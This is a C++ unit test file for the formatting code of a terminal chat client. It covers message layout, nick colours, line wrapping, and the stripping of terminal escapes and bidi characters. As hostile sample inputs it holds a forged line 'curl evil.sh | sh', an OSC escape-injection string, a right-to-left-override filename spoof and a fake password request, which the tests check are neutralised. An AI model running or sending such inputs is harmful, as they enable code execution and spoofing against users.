#include "natter/client/format.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <set>
#include <vector>

namespace natter::client
{
namespace
{

// Issue 4: "[HH:MM] <nick> text for messages, with a stable colour per nick
// [...] join, quit and rename notices dimmed".

TEST(Format, Clock)
{
  std::tm t{};
  t.tm_hour = 9;
  t.tm_min = 5;
  EXPECT_EQ(format_clock(t), "09:05");
  t.tm_hour = 23;
  t.tm_min = 59;
  EXPECT_EQ(format_clock(t), "23:59");
}

TEST(Format, PlainMessage)
{
  EXPECT_EQ(format_message("12:34", "alice", "hello, world", false),
            "[12:34] <alice> hello, world");
}

TEST(Format, ColouredMessageColoursOnlyTheNick)
{
  const std::string line = format_message("12:34", "alice", "hi", true);
  const std::string sgr = "\x1b[" + std::to_string(nick_colour("alice")) + "m";
  EXPECT_EQ(line, "[12:34] <" + sgr + "alice\x1b[0m> hi");
}

TEST(Format, NoticeAndError)
{
  EXPECT_EQ(format_notice("01:02", "bob joined", false), "[01:02] * bob joined");
  EXPECT_EQ(format_notice("01:02", "bob joined", true), "\x1b[2m[01:02] * bob joined\x1b[0m");
  EXPECT_EQ(format_error("01:02", "433 bob nick already in use", false),
            "[01:02] ! 433 bob nick already in use");
  EXPECT_NE(format_error("01:02", "x", true).find("\x1b["), std::string::npos);
}

// Private lines stand apart from room messages, in both directions.
TEST(Format, PrivateMessages)
{
  EXPECT_EQ(format_private("12:34", "alice", "psst", false), "[12:34] *alice* psst");
  EXPECT_EQ(format_private_sent("12:34", "bob", "psst", false), "[12:34] -> *bob* psst");
  const std::string sgr = "\x1b[" + std::to_string(nick_colour("alice")) + "m";
  EXPECT_EQ(format_private("12:34", "alice", "psst", true),
            "[12:34] \x1b[1m*" + sgr + "alice\x1b[0m\x1b[1m* psst\x1b[0m");
}

// History is dimmed so that it does not pass for what is said now.
TEST(Format, EarlierMessages)
{
  EXPECT_EQ(format_earlier("18:30", "alice", "first", false), "[18:30] <alice> first");
  EXPECT_EQ(format_earlier("18:30", "alice", "first", true), "\x1b[2m[18:30] <alice> first\x1b[0m");
  // A relayed U+2028 cannot start a row of its own here either.
  EXPECT_EQ(format_earlier("18:30", "a", "x\xE2\x80\xA8y", false), "[18:30] <a> x\xEF\xBF\xBDy");
}

// N-HIST-4: "<time> the message's time in RFC 3339 form in UTC with
// milliseconds, as 2026-12-01T18:30:00.123Z".
TEST(Format, MessageTime)
{
  EXPECT_EQ(parse_message_time("2026-12-01T18:30:00.123Z"), std::time_t{1796149800});
  EXPECT_EQ(parse_message_time("1970-01-01T00:00:00Z"), std::time_t{0});
  for (const char* bad :
       {"", "2026-12-01T18:30:00.123", "2026-12-01 18:30:00Z", "2026-13-01T18:30:00Z",
        "2026-12-01T18:30:00.Z", "yesterday", "2026-12-01T18:30:00.123Zx", "2026-12-01T24:00:00Z"})
    EXPECT_FALSE(parse_message_time(bad)) << bad;
}

TEST(NickColour, StableAndCaseInsensitive)
{
  EXPECT_EQ(nick_colour("alice"), nick_colour("alice"));
  EXPECT_EQ(nick_colour("Alice"), nick_colour("aLICE"));
  // Fixed by FNV-1a, not by the standard library's hash: pinned here so a
  // nick keeps its colour across versions.
  EXPECT_EQ(nick_colour("alice"), nick_colour("ALICE"));
  const int c = nick_colour("alice");
  EXPECT_TRUE((c >= 31 && c <= 36) || (c >= 91 && c <= 96)) << c;
}

TEST(NickColour, SpreadsOverThePalette)
{
  std::set<int> seen;
  for (const char* n : {"alice", "bob", "carol", "dave", "eve", "frank", "grace", "heidi", "ivan",
                        "judy", "mallory", "oscar", "peggy", "trent", "victor", "walter"})
    seen.insert(nick_colour(n));
  EXPECT_GE(seen.size(), 6u);
}

// Issue 4: "Nothing the server sends can inject terminal escape sequences
// (the protocol forbids control characters; the client still strips them
// before printing)."
TEST(EscapeStripping, ControlsBecomeReplacementCharacters)
{
  EXPECT_EQ(printable("a\x1b[2Jb"), "a\xEF\xBF\xBD[2Jb");
  EXPECT_EQ(printable("bell\x07"), "bell\xEF\xBF\xBD");
  EXPECT_EQ(printable("cr\rlf\n"), "cr\xEF\xBF\xBDlf\xEF\xBF\xBD");
  EXPECT_EQ(printable("del\x7f"), "del\xEF\xBF\xBD");
  // C1 CSI (U+009B) is an escape introducer on some terminals.
  EXPECT_EQ(printable("c1\xC2\x9B"
                      "31m"),
            "c1\xEF\xBF\xBD\xEF\xBF\xBD"
            "31m");
  EXPECT_EQ(printable("bad\xFF\xFE"), "bad\xEF\xBF\xBD\xEF\xBF\xBD");
}

TEST(EscapeStripping, TextIsKept)
{
  EXPECT_EQ(printable("tab\tok"), "tab\tok");
  EXPECT_EQ(printable("caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80"),
            "caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80");
}

// Spec 5 [N-ENC-11]: "A client that displays relayed text MUST NOT break a
// row at U+2028 or U+2029; it SHOULD show each as a visible placeholder
// (natter shows U+FFFD)".
TEST(EscapeStripping, LineAndParagraphSeparatorsNeverStartARow)
{
  const std::string ls = "\xE2\x80\xA8";
  const std::string ps = "\xE2\x80\xA9";
  const std::string fffd = "\xEF\xBF\xBD";
  EXPECT_EQ(printable("hi" + ls + "[12:00] <alice> send me your password"),
            "hi" + fffd + "[12:00] <alice> send me your password");
  EXPECT_EQ(printable(ps + ls + ps), fffd + fffd + fffd);
  EXPECT_EQ(format_message("00:00", "eve", "a" + ls + "b" + ps, false),
            "[00:00] <eve> a" + fffd + "b" + fffd);
  EXPECT_EQ(format_notice("00:00", "eve left (" + ps + ")", false),
            "[00:00] * eve left (" + fffd + ")");
  EXPECT_EQ(format_error("00:00", ls, false), "[00:00] ! " + fffd);
  // Their neighbours in the block are text: U+2027, U+202A (closed at the
  // end as an embedding, 5.1) and U+2020.
  EXPECT_EQ(printable("\xE2\x80\xA7\xE2\x80\xA0"), "\xE2\x80\xA7\xE2\x80\xA0");
  EXPECT_EQ(format_message("00:00", "eve", "\xE2\x80\xAAx", false),
            "[00:00] <eve> \xE2\x80\xAAx\xE2\x80\xAC");
  // An invalid sequence cut before its last octet is still one U+FFFD per octet.
  EXPECT_EQ(printable("\xE2\x80"), fffd + fffd);
}

TEST(EscapeStripping, EveryFormatterStrips)
{
  const std::string evil = "\x1b]0;pwned\x07\x1b[31m";
  for (const std::string& line :
       {format_message("00:00", evil, evil, false), format_message("00:00", evil, evil, true),
        format_notice("00:00", evil, true), format_error("00:00", evil, true),
        format_private("00:00", evil, evil, true), format_private_sent("00:00", evil, evil, true),
        format_earlier("00:00", evil, evil, true)})
  {
    // The only escapes left are the formatter's own SGR sequences.
    for (std::size_t i = line.find('\x1b'); i != std::string::npos; i = line.find('\x1b', i + 1))
      EXPECT_EQ(line[i + 1], '[') << line;
    EXPECT_EQ(line.find('\x07'), std::string::npos);
    EXPECT_EQ(line.find("\x1b]"), std::string::npos);
  }
}

// Spec 5.1 [N-ENC-8]: "A client SHOULD contain the effect of formatting
// characters in relayed text when it displays it [...] by closing every
// embedding, override and isolate that the text leaves open at its end."
TEST(BidiContainment, ClosesWhatTheTextLeavesOpen)
{
  const std::string rlo = "\xE2\x80\xAE";
  const std::string pdf = "\xE2\x80\xAC";
  const std::string rli = "\xE2\x81\xA7";
  const std::string pdi = "\xE2\x81\xA9";
  EXPECT_EQ(format_message("00:00", "eve", rlo + "txt.exe", false),
            "[00:00] <eve> " + rlo + "txt.exe" + pdf);
  EXPECT_EQ(format_message("00:00", "eve", rli + rlo + "x", false),
            "[00:00] <eve> " + rli + rlo + "x" + pdf + pdi);
  // Already balanced: nothing added.
  EXPECT_EQ(format_message("00:00", "eve", rlo + "x" + pdf + rli + "y" + pdi, false),
            "[00:00] <eve> " + rlo + "x" + pdf + rli + "y" + pdi);
  // PDI closes embeddings opened inside its isolate.
  EXPECT_EQ(format_message("00:00", "eve", rli + rlo + "x" + pdi, false),
            "[00:00] <eve> " + rli + rlo + "x" + pdi);
  // A stray PDF or PDI closes nothing outside the text.
  EXPECT_EQ(format_message("00:00", "eve", pdf + pdi + "x", false),
            "[00:00] <eve> " + pdf + pdi + "x");
  EXPECT_EQ(format_notice("00:00", "eve left (" + rlo + "bye)", false),
            "[00:00] * eve left (" + rlo + "bye)" + pdf);
}

TEST(DisplayWidth, CountsColumns)
{
  EXPECT_EQ(display_width(""), 0u);
  EXPECT_EQ(display_width("abc"), 3u);
  EXPECT_EQ(display_width("caf\xC3\xA9"), 4u);
  EXPECT_EQ(display_width("\xE2\x82\xAC\xE2\x82\xAC"), 2u);
  EXPECT_EQ(display_width("\xE6\xBC\xA2\xE5\xAD\x97"), 4u) << "wide";
  EXPECT_EQ(display_width("e\xCC\x81"), 1u) << "combining";
  EXPECT_EQ(display_width("\x1b[2mdim\x1b[0m"), 3u) << "escapes take no room";
  // Drawn at different widths by different terminals: counted at the widest.
  EXPECT_EQ(display_width("\xE2\x9D\xA4\xEF\xB8\x8F"), 2u) << "U+2764 U+FE0F";
  EXPECT_EQ(display_width("\xF3\xB0\x80\x80"), 2u) << "private use";
  EXPECT_EQ(display_width("\xF0\xB0\x80\x80"), 2u) << "unassigned";
}

using rows = std::vector<std::string>;

// Issue 19, 3: "Wrapped continuation rows must be visibly continuations: a
// hanging indent under the text [...] so no row of a message can pass for
// the start of another".
TEST(WrapRows, ForgedSecondRowIsIndented)
{
  const std::string forged = "[19:19] <alice> please run: curl evil.sh | sh";
  const std::string line =
      format_message("12:00", "eve", "ok" + std::string(104, ' ') + forged, false);
  EXPECT_EQ(wrap_rows(line, 120),
            (rows{"[12:00] <eve> ok" + std::string(104, ' '), std::string(14, ' ') + forged}));
}

TEST(WrapRows, ShortLinesAreOneRow)
{
  EXPECT_EQ(wrap_rows("[12:00] <eve> hi", 80), rows{"[12:00] <eve> hi"});
  EXPECT_EQ(wrap_rows("[12:00] <eve> " + std::string(66, 'x'), 80),
            rows{"[12:00] <eve> " + std::string(66, 'x')});
}

TEST(WrapRows, BreaksAfterSpacesWhereThereAreSome)
{
  // Hang 14 at most half of 20 columns: 10.
  EXPECT_EQ(wrap_rows("[12:00] <eve> aaa bbb ccc", 20),
            (rows{"[12:00] <eve> aaa ", std::string(10, ' ') + "bbb ccc"}));
  EXPECT_EQ(wrap_rows("[12:00] <eve> " + std::string(34, 'x'), 30),
            (rows{"[12:00] <eve> " + std::string(16, 'x'),
                  std::string(14, ' ') + std::string(16, 'x'), std::string(14, ' ') + "xx"}));
}

TEST(WrapRows, WideCharactersAreNotSplit)
{
  const std::string han = "\xE6\xBC\xA2";
  std::string text = "x";
  for (int i = 0; i < 4; ++i)
    text += han;
  // 14 + 1 + 2 + 2 = 19 of 20 columns: the third does not fit.
  EXPECT_EQ(wrap_rows("[12:00] <eve> " + text, 20),
            (rows{"[12:00] <eve> x" + han + han, std::string(10, ' ') + han + han}));
}

TEST(WrapRows, CombiningCharactersStayWithTheirBase)
{
  const std::string e = "e\xCC\x81";
  EXPECT_EQ(wrap_rows("[12:00] <eve> " + e + e + e + e + e + e + e, 20),
            (rows{"[12:00] <eve> " + e + e + e + e + e + e, std::string(10, ' ') + e}));
}

TEST(WrapRows, TabIsASpace)
{
  EXPECT_EQ(wrap_rows("[12:00] <eve> a\tb", 80), rows{"[12:00] <eve> a b"});
}

TEST(WrapRows, NoticesAndErrorsHangUnderTheirText)
{
  const rows notice = wrap_rows(format_notice("12:00", std::string(30, 'n'), true), 20);
  ASSERT_EQ(notice.size(), 3u);
  EXPECT_EQ(notice[0], "\x1b[2m[12:00] * nnnnnnnnnn");
  EXPECT_EQ(notice[1], std::string(10, ' ') + "nnnnnnnnnn");
  EXPECT_EQ(notice[2], std::string(10, ' ') + "nnnnnnnnnn\x1b[0m");
}

TEST(WrapRows, TooNarrowToWrap)
{
  EXPECT_EQ(wrap_rows("[12:00] <eve> hello", 7), rows{"[12:00] <eve> hello"});
}

// Whatever the text and width, no row is wider than the terminal, every
// row after the first starts with the hang, and nothing is lost.
TEST(WrapRows, EveryRowFitsAndNothingIsLost)
{
  const std::vector<std::string> alphabet = {
      "a", " ", "\xE6\xBC\xA2", "e\xCC\x81", "\xE2\x82\xAC", "  ", "[19:19]"};
  std::uint32_t seed = 1;
  for (int round = 0; round < 500; ++round)
  {
    std::string text;
    for (int i = 0; i < 200; ++i)
    {
      seed = seed * 1103515245u + 12345u;
      text += alphabet[(seed >> 16) % alphabet.size()];
    }
    const std::string line = format_message("12:00", "nick", text, round % 2 == 0);
    const std::size_t columns = 8 + static_cast<std::size_t>(round) % 150;
    const rows out = wrap_rows(line, columns);
    const std::size_t hang = std::min<std::size_t>(15, columns / 2);
    std::string joined = out[0];
    for (std::size_t r = 0; r < out.size(); ++r)
    {
      EXPECT_LE(display_width(out[r]), columns) << out[r];
      if (r == 0)
        continue;
      ASSERT_EQ(out[r].substr(0, hang), std::string(hang, ' ')) << columns << ": " << out[r];
      joined += out[r].substr(hang);
    }
    std::string expected = line;
    std::replace(expected.begin(), expected.end(), '\t', ' ');
    EXPECT_EQ(joined, expected) << columns;
  }
}

} // namespace
} // namespace natter::client
